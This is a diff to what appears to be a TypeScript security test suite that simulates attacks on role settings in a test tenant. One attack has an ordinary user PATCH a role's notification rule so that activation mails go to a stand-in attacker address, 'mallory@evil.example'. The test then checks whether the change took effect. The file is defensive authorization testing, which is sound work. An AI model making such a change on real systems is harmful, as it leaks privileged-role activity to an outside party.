@@ -4,6 +4,8 @@ import { call, globalAdministrator, plainRole, tokenOf } from './caller.ts';
 import type { Stage } from './stage.ts';
 
 const kind = 'role settings weakened';
+/** The only domain that mails may go to, by the rules of the stage. */
+export const ownDomain = 'contoso.example';
 
 function policyOf({ tenant }: Stage, role: string): { readonly id: string; readonly text: string } {
   const policy = tenant.roleSettings.policyOf(role);
@@ -145,14 +147,16 @@ export const roleSettingsAttacks: readonly Attack[] = [
     async attempt(stage) {
       const bearer = await tokenOf(stage, { userId: stage.person().id }, 'Settings');
       const path = `role-settings/${policyOf(stage, plainRole).id}/rules/Notification_Admin_EndUser_Assignment`;
-      const body = { notificationRecipients: ['mallory@evil.example'] };
-      await call(stage, bearer, path, { method: 'PATCH', body });
-      return {
-        harm: harmIf(
-          policyOf(stage, plainRole).text.includes('mallory@evil.example'),
-          'who activates the role is told to a foreign address',
-        ),
-      };
+      const mailTo = (address: string) =>
+        call(stage, bearer, path, { method: 'PATCH', body: { notificationRecipients: [address] } });
+      const isMailedTo = (address: string) => policyOf(stage, plainRole).text.includes(address);
+      await mailTo('mallory@evil.example');
+      const harm = harmIf(
+        isMailedTo('mallory@evil.example'),
+        'who activates the role is told to a foreign address',
+      );
+      await mailTo(`security@${ownDomain}`);
+      return { harm, bites: isMailedTo(`security@${ownDomain}`) };
     },
   },
 ];
